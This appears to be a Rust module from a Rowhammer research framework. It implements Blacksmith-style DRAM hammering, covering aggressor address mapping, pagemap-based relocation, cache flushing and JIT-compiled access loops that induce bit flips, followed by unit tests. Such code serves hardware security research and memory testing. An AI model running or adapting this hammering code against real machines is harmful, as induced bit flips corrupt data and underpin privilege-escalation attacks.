use crate::jitter::{CodeJitter, Jitter, Program};
use itertools::Itertools;
use log::{debug, error, info, trace, warn};
use rand::Rng;
use serde::{Deserialize, Serialize};
use serde_with::serde_as;
use std::arch::asm;
use std::arch::x86_64::{__rdtscp, _mm_mfence};
use std::fmt::Debug;
use std::hash::Hash;
use std::time::Instant;
use std::{collections::HashMap, fs::File, io::BufReader};
use swage_core::hammerer::Hammering;
use swage_core::memory::{
    AggressorPtr, BytePointer, ConsecBlocks, DRAMAddr, LinuxPageMap, MemConfiguration,
    VirtToPhysResolver,
};
use swage_core::util;
use swage_core::util::{CL_SIZE, GroupBy, ROW_SIZE, Size::MB};
use swage_core::victim::HammerVictimError;
use thiserror::Error;

/// Number of non-aggressor "filler" rows read while waiting out the
/// randomized pre-hammer delay, keeping the memory bus from going idle.
const FILLER_ROW_COUNT: usize = 8;
#[cfg(feature = "iperf")]
use {
    perfcnt::linux::PerfCounterBuilderLinux as Builder,
    perfcnt::{AbstractPerfCounter, PerfCounter},
};

/// Represents an aggressor row identifier in a Rowhammer pattern.
///
/// Aggressors are rows that are repeatedly accessed to induce bit flips
/// in nearby victim rows.
#[derive(Serialize, Deserialize, Debug, Hash, PartialEq, Eq, Clone, Copy)]
pub struct Aggressor(u64);

impl Aggressor {
    /// Wraps a raw aggressor identifier.
    pub fn new(id: u64) -> Self {
        Aggressor(id)
    }
}

/// Represents a detected bit flip in a memory cell.
#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct BitFlip {
    /// DRAM address where the bit flip occurred
    pub dram_addr: DRAMAddr,
    /// Bitmask indicating which bit flipped
    pub bitmask: u8,
    /// Data value after the flip
    pub data: u8,
}

impl BitFlip {
    /// Converts a generic [`swage_core::memory::BitFlip`] (virtual address,
    /// pre-flip expected byte) into the DRAM-addressed form archived here.
    pub fn from_core(flip: &swage_core::memory::BitFlip, mem_config: MemConfiguration) -> Self {
        BitFlip {
            dram_addr: DRAMAddr::from_virt(flip.addr as AggressorPtr, &mem_config),
            bitmask: flip.bitmask,
            data: flip.data,
        }
    }

    /// Whether this flip set any of its bits from 0 to 1.
    pub fn is_zero_to_one(&self) -> bool {
        self.bitmask & self.data != 0
    }

    /// Whether this flip cleared any of its bits from 1 to 0.
    pub fn is_one_to_zero(&self) -> bool {
        self.bitmask & !self.data != 0
    }
}

/// Maps aggressor row identifiers to physical DRAM addresses.
///
/// Used to map Blacksmith patterns to specific memory regions
/// during attack execution.
#[serde_as]
#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct PatternAddressMapper {
    /// Mapping UUID
    pub id: String,
    /// Minimum row number in this mapping
    pub min_row: usize,
    /// Maximum row number in this mapping
    pub max_row: usize,
    /// Bank this mapping was placed in
    pub bank_no: usize,
    /// Map from aggressor IDs to their DRAM addresses
    #[serde_as(as = "Vec<(_, _)>")]
    aggressor_to_addr: HashMap<Aggressor, DRAMAddr>,
    /// Bit flips detected during fuzzing
    bit_flips: Vec<Vec<BitFlip>>,
    /// JIT compiler for hammering code
    code_jitter: CodeJitter,
    /// Fraction of probes (or sweep shifts) of this mapping that produced at
    /// least one bit flip; 0.0 until a sweep or repeated probing updates it.
    #[serde(default)]
    reproducibility_score: f64,
}

impl PatternAddressMapper {
    /// Builds a mapping from an already-computed aggressor placement, with
    /// no bit flips recorded yet.
    pub fn new(
        id: String,
        min_row: usize,
        max_row: usize,
        bank_no: usize,
        aggressor_to_addr: HashMap<Aggressor, DRAMAddr>,
        code_jitter: CodeJitter,
    ) -> Self {
        PatternAddressMapper {
            id,
            min_row,
            max_row,
            bank_no,
            aggressor_to_addr,
            bit_flips: Vec::new(),
            code_jitter,
            reproducibility_score: 0.0,
        }
    }

    /// Translates aggressor identifiers to virtual addresses.
    ///
    /// # Arguments
    ///
    /// * `aggressors` - Aggressor row identifiers
    /// * `base_msb` - Base address for virtual address calculation
    /// * `mem_config` - DRAM configuration for address translation
    ///
    /// # Returns
    ///
    /// Virtual addresses corresponding to the aggressors
    pub fn get_hammering_addresses(
        &self,
        aggressors: &[Aggressor],
        base_msb: AggressorPtr,
        mem_config: MemConfiguration,
    ) -> Vec<AggressorPtr> {
        aggressors
            .iter()
            .map(|agg| self.aggressor_to_addr[agg].to_virt(base_msb, mem_config))
            .collect()
    }

    /// Groups aggressors by memory block prefix.
    ///
    /// Used for pattern relocation to organize aggressors by their
    /// target memory block.
    ///
    /// # Arguments
    ///
    /// * `mem_config` - DRAM configuration
    /// * `block_shift` - Block size as log2 value
    ///
    /// # Returns
    ///
    /// Map from block prefix to aggressors in that block
    pub fn aggressor_sets(
        &self,
        mem_config: MemConfiguration,
        block_shift: usize,
    ) -> HashMap<usize, Vec<Aggressor>> {
        // find mapping classes
        let addrs: &HashMap<Aggressor, DRAMAddr> = &self.aggressor_to_addr;

        let addrs_vec = addrs.iter().collect::<Vec<_>>();

        // group aggressors by prefix
        addrs_vec
            .group_by(|(_, addr)| {
                #[allow(clippy::zero_ptr)]
                let virt = addr.to_virt(0 as *const u8, mem_config) as usize;
                virt >> block_shift
            })
            .into_iter()
            .map(|(key, group)| (key, group.into_iter().map(|(aggr, _)| *aggr).collect()))
            .collect()
    }

    /// Relocates aggressor addresses to specific memory blocks.
    ///
    /// # Arguments
    ///
    /// * `aggressors` - Aggressor identifiers to relocate
    /// * `mem_config` - DRAM configuration
    /// * `block_shift` - Block size as log2 value
    /// * `memory` - Target memory blocks
    ///
    /// # Returns
    ///
    /// Relocated aggressor virtual addresses
    ///
    /// # Errors
    ///
    /// Returns error if physical address lookup fails
    fn get_hammering_addresses_relocate(
        &self,
        aggressors: &[Aggressor],
        mem_config: MemConfiguration,
        block_shift: usize,
        memory: &ConsecBlocks,
    ) -> Vec<AggressorPtr> {
        info!("Relocating aggressors with shift {}", block_shift);
        let block_size = 1 << block_shift;
        let addrs = &self.aggressor_to_addr;
        let sets = self.aggressor_sets(mem_config, block_shift);

        let mut base_lookup: HashMap<Aggressor, usize> = HashMap::new();
        for (idx, (base, group)) in sets.iter().enumerate() {
            debug!("Index/Base/Group: {}, {}, {:?}", idx, base, group);
            for aggr in group {
                base_lookup.insert(*aggr, idx);
            }
        }
        debug!("{:?}", base_lookup);

        assert_eq!(sets.len() * block_size, memory.len());

        let mut aggrs_relocated = vec![];
        let mut pagemap = match LinuxPageMap::new() {
            Ok(pagemap) => Some(pagemap),
            Err(e) => {
                debug!("Failed to open PageMap: {}", e);
                None
            }
        };
        for agg in aggressors {
            let base_idx = base_lookup[agg];
            let addr = &addrs[agg];
            #[allow(clippy::zero_ptr)]
            let virt_offset = addr.to_virt(0 as *const u8, mem_config);
            let virt_offset = virt_offset as u64 & ((1 << block_shift) - 1);
            assert!(virt_offset < block_size as u64); // check if virt is within block. This should usually hold, but you never know amirite?
            let base = memory.addr(base_idx * block_size) as u64;
            let relocated = memory.addr(base_idx * block_size + virt_offset as usize) as *const u8;
            if let Some(pagemap) = &mut pagemap {
                let p = pagemap.get_phys(relocated as u64);
                match p {
                    Ok(p) => {
                        let phys = DRAMAddr::from_virt(p.into(), &mem_config);
                        debug!(
                            "Relocate {:?} to {:?} (0x{:x}), phys {:?} ({:p}), base: 0x{:x}, base_idx {}",
                            addr,
                            DRAMAddr::from_virt(relocated, &mem_config),
                            relocated as u64,
                            phys,
                            p,
                            base,
                            base_idx
                        );
                    }
                    Err(_) => debug!(
                        "Relocate {:?} to {:?} (0x{:x}), base: 0x{:x}, base_idx {}",
                        addr,
                        DRAMAddr::from_virt(relocated, &mem_config),
                        relocated as u64,
                        base,
                        base_idx
                    ),
                }
            }
            aggrs_relocated.push(relocated);
        }
        aggrs_relocated
    }

    /// Returns the total number of bit flips in this pattern mapping.
    pub fn count_bitflips(&self) -> usize {
        self.bit_flips.iter().map(|b| b.len()).sum()
    }

    /// Records one probe's detected bit flips against this mapping.
    pub fn push_probe_flips(&mut self, flips: Vec<BitFlip>) {
        self.bit_flips.push(flips);
    }

    /// Sets this mapping's reproducibility score, the fraction of repeated
    /// attempts (probes or sweep shifts) that produced at least one flip.
    pub fn set_reproducibility_score(&mut self, score: f64) {
        self.reproducibility_score = score;
    }

    /// Returns a copy of this mapping with every aggressor's row shifted by
    /// `delta`, keeping the same bank and JIT configuration but with no
    /// recorded bit flips -- used to sweep a pattern's placement across the
    /// arena without resynthesizing it.
    pub fn shift_rows(&self, delta: i64) -> PatternAddressMapper {
        let aggressor_to_addr = self
            .aggressor_to_addr
            .iter()
            .map(|(&agg, addr)| {
                let row = (addr.row as i64 + delta).max(0) as usize;
                (agg, DRAMAddr::new(addr.bank, row, addr.col))
            })
            .collect();
        PatternAddressMapper {
            id: format!("{}-shift{delta}", self.id),
            min_row: (self.min_row as i64 + delta).max(0) as usize,
            max_row: (self.max_row as i64 + delta).max(0) as usize,
            bank_no: self.bank_no,
            aggressor_to_addr,
            bit_flips: Vec::new(),
            code_jitter: self.code_jitter,
            reproducibility_score: 0.0,
        }
    }

    /// Rows within five rows of any of this mapping's aggressors.
    pub fn victim_rows(&self) -> Vec<usize> {
        crate::mapping::determine_victim_rows(&self.aggressor_to_addr)
    }
}

/// Run-level metadata accompanying a fuzzing session's archived patterns.
#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct FuzzMetadata {
    /// Identifier for this fuzzing run, unique enough to correlate a
    /// pattern archive back to the log output it was produced alongside.
    pub run_id: String,
    /// Unix timestamp (seconds) when fuzzing started.
    pub start_time: u64,
    /// Unix timestamp (seconds) when fuzzing ended.
    pub end_time: u64,
    /// Name of the DRAM module configuration this run targeted.
    pub memory_config_name: String,
}

/// Container for Blacksmith fuzzing results.
#[derive(Serialize, Deserialize, Debug)]
pub struct FuzzSummary {
    /// Run id, timing, and memory-config summary for this archive.
    pub metadata: FuzzMetadata,
    /// All discovered hammering patterns
    pub hammering_patterns: Vec<HammeringPattern>,
}

/// A Blacksmith hammering pattern discovered through fuzzing.
///
/// Contains aggressor access sequences and address mappings that
/// successfully induced bit flips during fuzzing.
#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct HammeringPattern {
    /// Unique identifier for this pattern
    pub id: String,
    /// Length, in activations, of the pattern's base period
    pub base_period: i32,
    /// Length, in activations, of the longest period among this pattern's
    /// aggressor-access patterns (`base_period` times the largest multiplier)
    pub max_period: usize,
    /// Total number of row activations in this pattern
    pub total_activations: u32,
    /// Number of DRAM refresh intervals
    pub num_refresh_intervals: u32,
    /// Whether bit flips induced by this pattern depend on its placement
    /// in physical memory (as opposed to the access sequence alone)
    pub is_location_dependent: bool,
    /// Aggressor row access sequence
    pub access_ids: Vec<Aggressor>,
    /// Frequency/amplitude/phase description this access sequence was
    /// synthesized from
    pub agg_access_patterns: Vec<crate::aap::AggressorAccessPattern>,
    /// Address mappings for this pattern
    pub address_mappings: Vec<PatternAddressMapper>,
    /// JIT compiler configuration this pattern was synthesized for
    pub code_jitter: CodeJitter,
}

/// Errors that can occur when loading Blacksmith patterns from JSON.
#[derive(Debug, Error)]
pub enum PatternLoadError {
    /// I/O error reading pattern file
    #[error(transparent)]
    Io(#[from] std::io::Error),
    /// JSON parsing error
    #[error(transparent)]
    Json(#[from] serde_json::Error),
    /// Pattern with specified ID not found
    #[error("Did not find pattern with id {0}")]
    NotFound(String),
}

impl HammeringPattern {
    /// Builds a fresh pattern from a synthesized access stream, with no
    /// address mappings yet (those are added by [`HammeringPattern::push_mapping`]
    /// once the pattern has been placed in DRAM).
    pub fn new(
        id: String,
        base_period: i32,
        max_period: usize,
        total_activations: u32,
        num_refresh_intervals: u32,
        access_ids: Vec<Aggressor>,
        agg_access_patterns: Vec<crate::aap::AggressorAccessPattern>,
        code_jitter: CodeJitter,
    ) -> Self {
        HammeringPattern {
            id,
            base_period,
            max_period,
            total_activations,
            num_refresh_intervals,
            is_location_dependent: true,
            access_ids,
            agg_access_patterns,
            address_mappings: Vec::new(),
            code_jitter,
        }
    }

    /// Appends a newly-probed address mapping to this pattern's archive.
    pub fn push_mapping(&mut self, mapping: PatternAddressMapper) {
        self.address_mappings.push(mapping);
    }

    /// Total bit flips summed across every probed mapping of this pattern.
    pub fn count_bitflips(&self) -> usize {
        self.address_mappings.iter().map(|m| m.count_bitflips()).sum()
    }

    /// Loads all patterns from a Blacksmith JSON file.
    ///
    /// # Arguments
    ///
    /// * `json_filename` - Path to the Blacksmith fuzzing results JSON file
    ///
    /// # Errors
    ///
    /// Returns error if file cannot be read or parsed
    pub fn load_patterns(json_filename: &str) -> Result<Vec<HammeringPattern>, PatternLoadError> {
        let f = File::open(json_filename)?;
        let reader = BufReader::new(f);
        let patterns: FuzzSummary = serde_json::from_reader(reader)?;
        Ok(patterns.hammering_patterns)
    }

    /// Load pattern with ID `pattern_id` from `json_filename`
    pub fn load_pattern_from_json(
        json_filename: &str,
        pattern_id: &str,
    ) -> Result<HammeringPattern, PatternLoadError> {
        let patterns = HammeringPattern::load_patterns(json_filename)?;
        patterns
            .into_iter()
            .find(|p| pattern_id.eq(&p.id))
            .ok_or_else(|| PatternLoadError::NotFound(pattern_id.into()))
    }
}

impl HammeringPattern {
    /// Finds the address mapping with the most bit flips.
    ///
    /// # Returns
    ///
    /// The most effective mapping, or None if no mappings exist
    pub fn determine_most_effective_mapping(&self) -> Option<PatternAddressMapper> {
        self.address_mappings
            .iter()
            .max_by_key(|m| m.count_bitflips())
            .cloned()
    }

    /// Finds an address mapping by its identifier.
    ///
    /// # Arguments
    ///
    /// * `mapping_id` - Identifier of the mapping to find
    ///
    /// # Returns
    ///
    /// The matching mapping, or None if not found
    pub fn find_mapping(&self, mapping_id: &str) -> Option<PatternAddressMapper> {
        self.address_mappings
            .iter()
            .find(|m| m.id == mapping_id)
            .cloned()
    }
}

/// Number of hammering attempts to perform.
#[derive(Copy, Clone)]
pub struct Attempts(u32);

/// Block size shift for memory alignment.
#[derive(Copy, Clone)]
pub struct BlockShift(usize);

/// Blacksmith Rowhammer attack implementation.
///
/// Executes JIT-compiled hammering patterns discovered through fuzzing.
pub struct Blacksmith {
    /// JIT-compiled hammering program
    program: Program,
    /// Number of hammering attempts
    attempts: Attempts,
    /// Cache flush addresses
    flush_lines: Vec<usize>,
    /// Non-aggressor rows sampled from the arena, read while waiting out the
    /// pre-hammer delay
    filler_rows: Vec<AggressorPtr>,
}

/// Uniformly samples up to `count` row-aligned addresses from `memory`,
/// avoiding rows already used by `hammering_addrs` where possible.
fn sample_filler_rows(
    memory: &ConsecBlocks,
    hammering_addrs: &[AggressorPtr],
    count: usize,
) -> Vec<AggressorPtr> {
    let num_rows = memory.len() / ROW_SIZE;
    if num_rows == 0 {
        return Vec::new();
    }
    let hammered_rows: std::collections::HashSet<usize> = hammering_addrs
        .iter()
        .map(|&a| (a as usize) / ROW_SIZE)
        .collect();
    let mut rng = rand::rng();
    (0..count)
        .map(|_| {
            let mut row = rng.random_range(0..num_rows);
            let mut tries = 0;
            while hammered_rows.contains(&row) && tries < 8 {
                row = rng.random_range(0..num_rows);
                tries += 1;
            }
            memory.addr(row * ROW_SIZE)
        })
        .collect()
}

impl Blacksmith {
    /// Creates a new Blacksmith hammerer.
    ///
    /// JIT-compiles the pattern and prepares it for execution.
    ///
    /// # Arguments
    ///
    /// * `mem_config` - DRAM configuration
    /// * `pattern` - Hammering pattern to execute
    /// * `mapping` - Address mapping for the pattern
    /// * `block_shift` - Memory block alignment
    /// * `memory` - Target memory blocks
    /// * `attempts` - Number of hammering attempts
    pub fn new(
        mem_config: MemConfiguration,
        pattern: &HammeringPattern,
        mapping: &PatternAddressMapper,
        block_shift: BlockShift,
        memory: &ConsecBlocks, // TODO change to dyn BytePointer after updating hammer_log_cb
        attempts: Attempts,
    ) -> Self {
        let flush_buf: *mut u8 = util::mmap(std::ptr::null_mut(), MB(1024).bytes());
        let flush_lines = (0..MB(1024).bytes())
            .step_by(CL_SIZE)
            .map(|offset| unsafe { flush_buf.byte_add(offset) as usize })
            .collect_vec();

        info!("Using pattern {}", pattern.id);
        info!("Using mapping {}", mapping.id);

        let hammer_log_cb = |action: &str, addr: *const u8| {
            let block_idx = memory.blocks.iter().find_position(|base| {
                (addr as u64) >= base.ptr() as u64
                    && (addr as u64) <= (base.addr(base.len() - 1) as u64)
            });
            let found = block_idx.is_some();
            if !found {
                error!("OUT OF BOUNDS ACCESS: {} {:?}", action, addr);
            }
            let paddr = LinuxPageMap::new()
                .expect("pagemap open")
                .get_phys(addr as u64);
            match paddr {
                Ok(paddr) => {
                    let dram = DRAMAddr::from_virt(paddr.into(), &mem_config);
                    trace!(
                        "{:>06} {:02},{:04},{:p},{}",
                        action,
                        dram.bank,
                        dram.row,
                        paddr,
                        block_idx.map(|(idx, _)| idx).unwrap_or(usize::MAX)
                    )
                }
                Err(e) => warn!("Failed to get physical address: {}", e),
            };
        };

        let acts_per_tref = pattern.total_activations / pattern.num_refresh_intervals;

        let hammering_addrs = mapping.get_hammering_addresses_relocate(
            &pattern.access_ids,
            mem_config,
            block_shift.0,
            memory,
        );
        let num_accessed_addrs = hammering_addrs
            .iter()
            .map(|x| (*x as usize) & !0xFFF)
            .unique()
            .count();

        info!("Pattern contains {} accessed addresses", num_accessed_addrs);

        let program = mapping
            .code_jitter
            .jit(acts_per_tref as u64, &hammering_addrs, &hammer_log_cb)
            .expect("JIT failed");
        if cfg!(feature = "jitter_dump") {
            program
                .write("hammer_jit.o")
                .expect("failed to write function to disk");
        }

        let filler_rows = sample_filler_rows(memory, &hammering_addrs, FILLER_ROW_COUNT);

        Self {
            program,
            attempts,
            flush_lines,
            filler_rows,
        }
    }
}

impl Drop for Blacksmith {
    fn drop(&mut self) {
        unsafe {
            let flush_buf = self.flush_lines[0] as *mut u8;
            util::munmap(flush_buf, MB(1024).bytes());
        }
    }
}

impl Blacksmith {
    fn do_random_accesses(&self, rows: &[AggressorPtr], wait_until_start_hammering_us: u128) {
        let start = Instant::now();
        let mut _x = 0;
        while start.elapsed().as_micros() < wait_until_start_hammering_us {
            for &row in rows {
                _x = std::hint::black_box(unsafe { std::ptr::read_volatile(row) });
            }
        }
    }
}

impl Hammering for Blacksmith {
    type Error = HammerVictimError;
    fn hammer(&self) -> Result<(), Self::Error> {
        info!("Hammering with {} attempts", self.attempts.0);
        let mut rng = rand::rng();
        const REF_INTERVAL_LEN_US: f32 = 7.8; // check if can be derived from pattern?
        #[cfg(feature = "iperf")]
        {
            let mut pc_miss: PerfCounter =
                Builder::from_hardware_event(perfcnt::linux::HardwareEventType::CacheMisses)
                    .on_cpu(1)
                    .for_pid(std::process::id() as i32)
                    .finish()
                    .expect("Could not create counter");
            let mut pc_ref: PerfCounter =
                Builder::from_hardware_event(perfcnt::linux::HardwareEventType::CacheReferences)
                    .on_cpu(1)
                    .for_pid(std::process::id() as i32)
                    .finish()
                    .expect("Could not create counter");
        }
        for attempt in 0..self.attempts.0 {
            #[cfg(feature = "iperf")]
            {
                pc_miss.reset().expect("Could not reset counter");
                pc_ref.reset().expect("Could not reset counter");
            }
            let wait_until_start_hammering_refs = rng.random_range(10..128); // range 10..128 is hard-coded in FuzzingParameterSet
            let wait_until_start_hammering_us =
                wait_until_start_hammering_refs as f32 * REF_INTERVAL_LEN_US;
            trace!(
                "do random memory accesses for {} us before running jitted code",
                wait_until_start_hammering_us as u128
            );
            // before hammering: clear cache
            debug!("Flush {} lines", self.flush_lines.len());
            for &line in self.flush_lines.iter() {
                unsafe {
                    // TODO why does clflush increase flippability? Replace with nops
                    asm!("clflushopt [{}]", in(reg) line as *const u8);
                }
            }
            unsafe { _mm_mfence() };
            self.do_random_accesses(&self.filler_rows, wait_until_start_hammering_us as u128);
            unsafe {
                let mut aux = 0;
                _mm_mfence();
                let time = __rdtscp(&mut aux);
                _mm_mfence();
                #[cfg(feature = "iperf")]
                {
                    pc_miss.start().expect("Could not start counter");
                    pc_ref.start().expect("Could not start counter");
                }
                let result = self.program.call();
                _mm_mfence();
                #[cfg(feature = "iperf")]
                {
                    pc_miss.stop().expect("Could not stop counter");
                    pc_ref.stop().expect("Could not stop counter");
                }
                let time = __rdtscp(&mut aux) - time;
                _mm_mfence();
                debug!(
                    "jit call done: 0x{:02X} (attempt {}, time {})",
                    result, attempt, time
                );
            }
            #[cfg(feature = "iperf")]
            {
                let misses = pc_miss.read().expect("Could not read counter");
                let refs = pc_ref.read().expect("Could not read counter");
                debug!(
                    "LL misses: {}/{} = {:.03}",
                    misses,
                    refs,
                    misses as f64 / refs as f64
                );
            }
        }
        info!("Hammering done.");
        Ok(())
    }
}

impl From<u32> for Attempts {
    fn from(u: u32) -> Self {
        Attempts(u)
    }
}

impl From<usize> for BlockShift {
    fn from(u: usize) -> Self {
        BlockShift(u)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mapper_with_one_aggressor(bank: usize, row: usize) -> PatternAddressMapper {
        let mut aggressor_to_addr = HashMap::new();
        aggressor_to_addr.insert(Aggressor::new(1), DRAMAddr::new(bank, row, 0));
        PatternAddressMapper::new(
            "m".into(),
            row,
            row,
            bank,
            aggressor_to_addr,
            CodeJitter::default(),
        )
    }

    #[test]
    fn bit_flip_classifies_set_and_cleared_bits() {
        let set = BitFlip {
            dram_addr: DRAMAddr::new(0, 0, 0),
            bitmask: 0b0000_0001,
            data: 0b0000_0001,
        };
        assert!(set.is_zero_to_one());
        assert!(!set.is_one_to_zero());

        let cleared = BitFlip {
            dram_addr: DRAMAddr::new(0, 0, 0),
            bitmask: 0b0000_0001,
            data: 0b0000_0000,
        };
        assert!(!cleared.is_zero_to_one());
        assert!(cleared.is_one_to_zero());
    }

    #[test]
    fn shift_rows_moves_every_aggressor_and_clamps_at_zero() {
        let mapper = mapper_with_one_aggressor(0, 3);
        let shifted = shifted_row(&mapper, -10);
        assert_eq!(shifted, 0);

        let mapper = mapper_with_one_aggressor(0, 100);
        let shifted = shifted_row(&mapper, 5);
        assert_eq!(shifted, 105);
    }

    fn shifted_row(mapper: &PatternAddressMapper, delta: i64) -> usize {
        let shifted = mapper.shift_rows(delta);
        *shifted.aggressor_to_addr.values().next().map(|a| &a.row).unwrap() as usize
    }

    #[test]
    fn victim_rows_delegates_to_determine_victim_rows() {
        let mapper = mapper_with_one_aggressor(0, 100);
        let victims = mapper.victim_rows();
        assert_eq!(victims, crate::mapping::determine_victim_rows(&{
            let mut m = HashMap::new();
            m.insert(Aggressor::new(1), DRAMAddr::new(0, 100, 0));
            m
        }));
    }

    #[test]
    fn reproducibility_score_round_trips() {
        let mut mapper = mapper_with_one_aggressor(0, 0);
        assert_eq!(mapper.reproducibility_score, 0.0);
        mapper.set_reproducibility_score(0.5);
        assert_eq!(mapper.reproducibility_score, 0.5);
    }

    #[test]
    fn most_effective_mapping_picks_the_one_with_more_flips() {
        let mut pattern = HammeringPattern::new(
            "p".into(),
            1,
            1,
            0,
            1,
            Vec::new(),
            Vec::new(),
            CodeJitter::default(),
        );
        let mut weak = mapper_with_one_aggressor(0, 0);
        weak.push_probe_flips(vec![BitFlip {
            dram_addr: DRAMAddr::new(0, 0, 0),
            bitmask: 1,
            data: 1,
        }]);
        let mut strong = mapper_with_one_aggressor(0, 1);
        strong.push_probe_flips(vec![
            BitFlip { dram_addr: DRAMAddr::new(0, 1, 0), bitmask: 1, data: 1 },
            BitFlip { dram_addr: DRAMAddr::new(0, 1, 0), bitmask: 2, data: 2 },
        ]);
        pattern.push_mapping(weak);
        pattern.push_mapping(strong.clone());

        let best = pattern.determine_most_effective_mapping().unwrap();
        assert_eq!(best.id, strong.id);
        assert_eq!(pattern.count_bitflips(), 3);
    }
}
